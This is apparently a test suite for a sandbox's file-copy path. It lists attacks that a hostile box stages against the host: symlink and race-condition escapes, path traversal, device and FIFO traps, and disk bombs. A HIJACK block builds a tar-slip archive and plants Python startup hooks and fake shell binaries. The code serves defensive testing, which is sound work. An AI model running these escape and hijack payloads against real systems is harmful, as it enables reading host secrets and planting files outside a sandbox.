"""Files on their way out: links, races, devices, bombs and names.

The box is hostile and still running while the host copies. Every attack ends with a look at the
host's files; a refusal of the copy is as good as a safe copy.
"""

from __future__ import annotations

import os
import stat
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.sandbox.attacks.attack import Attack, Outcome, Scene
from tests.sandbox.attacks.copying import MIB, brief, copy, hide, holds_canary, judge, lay, row
from tests.sandbox.attacks.host import meanwhile, secret

__all__ = ["ATTACKS"]

RACE = 1.5


def _get_link(trap: str, source: str) -> Callable[[Scene, Attack], Outcome]:
    """Fetch something that is, or leads through, a link to the host's secret."""

    def act(scene: Scene, attack: Attack) -> Outcome:
        lay(scene, trap)
        target = scene.kept["target"]
        where = scene.inside(source.format(**scene.params))
        said = copy(lambda: scene.box.get(where, target))
        return judge(said, holds_canary(scene, target))

    return act


def _read_link(scene: Scene, attack: Attack) -> Outcome:
    lay(scene, "os.symlink(P['secret'], P['workspace'] + '/link')")
    read: list[bytes] = []
    said = copy(lambda: read.append(scene.box.read_bytes(scene.inside("link"), 1000)))
    return judge(said, "the secret was read" if scene.canary.encode() in b"".join(read) else "")


def _race(swap: str, source: str) -> Callable[[Scene, Attack], Outcome]:
    """Fetch again and again while the box swaps what is fetched for a link to the secret."""

    def act(scene: Scene, attack: Attack) -> Outcome:
        race = RACE if not scene.naive else 0.5
        loop = f"os.chdir(P['workspace'])\nuntil = time.monotonic() + {race + 0.2}\n{swap}"
        evidence, said, number = "", "never there", 0
        with meanwhile(lambda: scene.python(loop, timeout=4)):
            # The race begins when the script does, which may take a while on a busy machine.
            begun = time.monotonic()
            while scene.naive and not any(Path(scene.workspace).iterdir()):
                if time.monotonic() > begun + 3:
                    break
                time.sleep(0.005)
            until = time.monotonic() + race
            while time.monotonic() < until and not (evidence or said.startswith("BROKE")):
                target, number = scene.folder / f"target-{number}", number + 1
                said = copy(partial(scene.box.get, scene.inside(source), target))
                evidence = holds_canary(scene, target)
        return judge(said, evidence)

    return act


def _get_special(make: str) -> Callable[[Scene, Attack], Outcome]:
    """Fetch a folder with something in it that is no file: it must neither hang nor appear."""

    def act(scene: Scene, attack: Attack) -> Outcome:
        lay(scene, f"os.makedirs(P['workspace'] + '/d')\nos.chdir(P['workspace'] + '/d')\n{make}")
        target = scene.folder / "target"
        said = copy(lambda: scene.box.get(scene.inside("d/special"), target / "one"), brief(scene))
        if said == "copied" or said.startswith("refused"):
            said = copy(lambda: scene.box.get(scene.inside("d"), target), brief(scene))
        odd = [
            p.name for p in target.rglob("*") if not (p.is_file() or p.is_dir() or p.is_symlink())
        ]
        return judge(said, f"special files on the host: {odd}" if odd else "")

    return act


def _read_special(path: str, make: str = "") -> Callable[[Scene, Attack], Outcome]:
    def act(scene: Scene, attack: Attack) -> Outcome:
        if make:
            lay(scene, f"os.chdir(P['workspace'])\n{make}")
        read: list[bytes] = []
        where = path if path.startswith("/") else scene.inside(path)
        said = copy(lambda: read.append(scene.box.read_bytes(where, 1000)), brief(scene))
        size = sum(map(len, read))
        return judge(said, f"{size} bytes were read where 1000 were allowed" if size > 1000 else "")

    return act


def _get_bits(scene: Scene, attack: Attack) -> Outcome:
    make = "os.chdir(P['workspace'])\nos.mkdir('d')\nopen('d/tool', 'w').close()\n"
    lay(scene, make + "os.chmod('d/tool', 0o6777)\nos.chmod('d', 0o3777)")
    target = scene.folder / "target"
    said = copy(lambda: scene.box.get(scene.inside("d"), target))
    path = target / "tool"
    bits = (
        path.stat().st_mode & (stat.S_ISUID | stat.S_ISGID | stat.S_ISVTX) if path.exists() else 0
    )
    return judge(said, f"special bits {bits:o} on the host" if bits else "")


def _get_sparse(scene: Scene, attack: Attack) -> Outcome:
    lay(scene, "os.truncate(os.open(P['workspace'] + '/big', 65), 48 << 20)")
    target = scene.folder / "target"
    said = copy(lambda: scene.box.get(scene.inside("big"), target))
    used = target.stat().st_blocks * 512 if target.exists() else 0
    if target.exists():
        target.unlink()
    return judge(said, f"{used >> 20} MiB on the host's disk" if used > 16 * MIB else "")


def _get_hard_links(scene: Scene, attack: Attack) -> Outcome:
    """One file under many names: small inside, large for whoever copies each of them."""
    lay(
        scene,
        "os.chdir(P['workspace'])\nos.mkdir('d')\nopen('d/0', 'wb').write(bytes(4 << 20))\n"
        "for n in range(1, 16):\n    os.link('d/0', f'd/{n}')",
    )
    target = scene.folder / "target"
    said = copy(lambda: scene.box.get(scene.inside("d"), target))
    used = sum(path.stat().st_size for path in target.rglob("*")) if target.exists() else 0
    return judge(said, f"{used >> 20} MiB on the host's disk" if used > 16 * MIB else "")


def _get_growing(scene: Scene, attack: Attack) -> Outcome:
    """A folder that grows as fast as it is copied must not keep the host for ever."""
    loop = f"os.chdir(P['workspace'])\nuntil = time.monotonic() + 9\n{GROW}"
    target = scene.folder / "target"
    with meanwhile(lambda: scene.python(loop, timeout=10)):
        time.sleep(0.3)
        said = copy(lambda: scene.box.get(scene.inside("grow"), target), 6)
        scene.box.close()
    return judge(said, "")


GROW = """
os.mkdir("grow")
number = 0
while time.monotonic() < until:
    number += 1
    try:
        os.mknod(f"grow/{number}")
        os.unlink(f"grow/{number - 1500}")
    except OSError:
        pass
"""


def _get_deep(scene: Scene, attack: Attack) -> Outcome:
    """A folder deeper than recursion goes; inside, it costs next to nothing."""
    scene.params["levels"] = 600 if scene.naive else 1100
    deeper = "for _ in range(P['levels']):\n    os.mkdir('d')\n    os.chdir('d')"
    lay(scene, f"os.chdir(P['workspace'])\n{deeper}")
    target = scene.folder / "target"
    said = copy(lambda: scene.box.get(scene.inside("d"), target))
    for place in (target, scene.folder / "box-0"):
        _remove_deep(place)
    return judge(said, "")


def _remove_deep(place: Path) -> None:
    """Remove a chain of folders that is too deep for a recursive walk."""
    if not place.exists():
        return
    import subprocess

    subprocess.run(["rm", "-rf", str(place)], check=True, timeout=20)


def _get_names(scene: Scene, attack: Attack) -> Outcome:
    """Names with newlines, escapes, no UTF-8, a leading dash: each arrives whole or not at all."""
    names = [b"-rf", b"new\nline", b"\x1b[31mred", b"\xff\xfe", b"..a", b"a b", b"x" * 255, b"*"]
    scene.params["names"] = [name.hex() for name in names]
    lay(
        scene,
        "folder = os.fsencode(P['workspace']) + b'/names'\nos.mkdir(folder)\n"
        "for name in P['names']:\n    open(folder + b'/' + bytes.fromhex(name), 'wb').write(b'x')",
    )
    target = scene.folder / "target"
    said = copy(lambda: scene.box.get(scene.inside("names"), target))
    if said != "copied":
        return judge(said, "")
    wrong = {os.fsencode(path.name) for path in target.iterdir()} - set(names)
    return judge(said, f"names were changed: {wrong}" if wrong else "")


def _hijack_helpers(scene: Scene, attack: Attack) -> Outcome:
    """Start-up files that any program run in the box for the copy would load and obey."""
    lay(scene, HIJACK)
    target = scene.folder / "deep" / "target"
    target.parent.mkdir()
    said = copy(lambda: scene.box.get(scene.inside("d"), target))
    said += ", " + copy(lambda: scene.box.put(secret(scene).parent / "secret", scene.inside("n")))
    planted = [p.name for p in scene.folder.rglob("planted*")]
    return judge(said, f"planted on the host: {planted}" if planted else "")


HIJACK = r"""
import io, tarfile
os.chdir(P["workspace"])
os.mkdir("d")
open("d/file", "w").write("x")
stream = io.BytesIO()
with tarfile.open(fileobj=stream, mode="w") as archive:
    for name in ("../planted", "../../planted", "/tmp/planted-" + P["token"], "d/../../planted"):
        member = tarfile.TarInfo(name)
        member.size = 1
        archive.addfile(member, io.BytesIO(b"x"))
    link = tarfile.TarInfo("d/up")
    link.type, link.linkname = tarfile.SYMTYPE, "../.."
    archive.addfile(link)
    member = tarfile.TarInfo("d/up/planted")
    member.size = 1
    archive.addfile(member, io.BytesIO(b"x"))
open("evil.tar", "wb").write(stream.getvalue())
code = "import os;os.write(1,open('/workspace/evil.tar','rb').read());os._exit(0)"
for minor in range(9, 16):
    site = f".local/lib/python3.{minor}/site-packages"
    os.makedirs(site)
    open(site + "/usercustomize.py", "w").write(code)
    open(site + "/evil.pth", "w").write("import os;exec(%r)" % code)
for name in ("tarfile.py", "shutil.py", "json.py", "struct.py", "sitecustomize.py", "os.py"):
    open(name, "w").write(code)
for name in (".bashrc", ".bash_profile", ".profile", ".bash_login", ".tarrc"):
    open(name, "w").write("cat /workspace/evil.tar; exit 0\n")
os.mkdir("bin")
for name in ("tar", "cat", "cp", "sh", "bash", "find", "python3", "bin/tar", "bin/cat"):
    open(name, "w").write("#!/bin/sh\nexec /bin/cat /workspace/evil.tar\n")
    os.chmod(name, 0o755)
"""


SECRET = {"prepare": hide}
SWAP_FILE = """
while time.monotonic() < until:
    open("new", "w").write("harmless")
    os.rename("new", "f")
    os.symlink(P["secret"], "new")
    os.rename("new", "f")
"""
SWAP_PARENT = """
os.mkdir("real")
open("real/secret", "w").write("harmless")
os.symlink(P["hidden"], "link")
while time.monotonic() < until:
    for name in ("real", "link"):
        os.rename(name, "p")
        time.sleep(0.0003)
        os.rename("p", name)
"""
SWAP_ENTRY = """
os.makedirs("tree")
os.mkdir("real")
open("real/secret", "w").write("harmless")
os.symlink(P["hidden"], "link")
while time.monotonic() < until:
    for name in ("real", "link"):
        os.rename(name, "tree/sub")
        time.sleep(0.0003)
        os.rename("tree/sub", name)
"""
LINK = "os.symlink(P['secret'], P['workspace'] + '/link')"
LINKED_FOLDER = "os.symlink(P['hidden'], P['workspace'] + '/way')"
LINK_IN_FOLDER = "os.mkdir(P['workspace'] + '/d')\nos.symlink(P['secret'], P['workspace'] + '/d/x')"
PROC_LINK = "os.symlink('/proc/self/root' + P['secret'], P['workspace'] + '/link')"

SMALL = {"disk": 8 * MIB, "tmp": 8 * MIB}

ATTACKS = (
    row(
        "get_link", "a file of the host, fetched through a link", _get_link(LINK, "link"), **SECRET
    ),
    row(
        "get_through_linked_folder",
        "a folder of the host, through a link on the way",
        _get_link(LINKED_FOLDER, "way/secret"),
        **SECRET,
    ),
    row(
        "get_folder_with_link",
        "a file of the host, through a link in a fetched folder",
        _get_link(LINK_IN_FOLDER, "d"),
        **SECRET,
    ),
    row(
        "get_link_through_proc",
        "the host's root, through the copier's own /proc/self/root",
        _get_link(PROC_LINK, "link"),
        **SECRET,
    ),
    row(
        "get_by_dots",
        "files beside the workspace",
        _get_link("pass", "../../../../../../../../..{secret}"),
        **SECRET,
    ),
    row("read_link", "a file of the host, by read_bytes", _read_link, **SECRET),
    row("race_file_for_link", "a file swapped for a link in time", _race(SWAP_FILE, "f"), **SECRET),
    row(
        "race_parent_for_link",
        "a folder on the way swapped for a link in time",
        _race(SWAP_PARENT, "p/secret"),
        **SECRET,
    ),
    row(
        "race_entry_for_link",
        "an entry of a fetched folder swapped for a link in time",
        _race(SWAP_ENTRY, "tree"),
        **SECRET,
    ),
    row(
        "get_special_files",
        "a host that waits for ever, or special files on it",
        _get_special("os.mkfifo('special')\nsocket.socket(socket.AF_UNIX).bind('socket')"),
    ),
    row(
        "read_endless_device", "the host's memory: /dev/zero has no end", _read_special("/dev/zero")
    ),
    row("read_fifo", "a host that waits for ever", _read_special("pipe", "os.mkfifo('pipe')")),
    row(
        "read_too_much",
        "the host's memory",
        _read_special("big", "open('big', 'w').write('x' * 100000)"),
    ),
    row("get_special_bits", "a program on the host that runs as root", _get_bits),
    row("get_sparse_file", "the host's disk", _get_sparse, policy=SMALL, everywhere=False),
    row("get_hard_link_bomb", "the host's disk", _get_hard_links, policy=SMALL, everywhere=False),
    row(
        "get_growing_folder",
        "a host that copies for ever",
        _get_growing,
        policy={"disk": 16 * MIB},
        cannot_succeed_unboxed="a plain copy reads a folder's names once",
        everywhere=False,
    ),
    row("get_deep_folder", "the copier's stack", _get_deep),
    row(
        "get_odd_names",
        "files of other names on the host",
        _get_names,
        cannot_succeed_unboxed="a plain copy keeps names; listings and archives lose them",
    ),
    Attack(
        name="hijack_copy_helpers",
        threat="files anywhere on the host, by an archive that the box wrote",
        act=_hijack_helpers,
        cannot_succeed_unboxed="needs a copy that runs a program in the box",
    ),
)
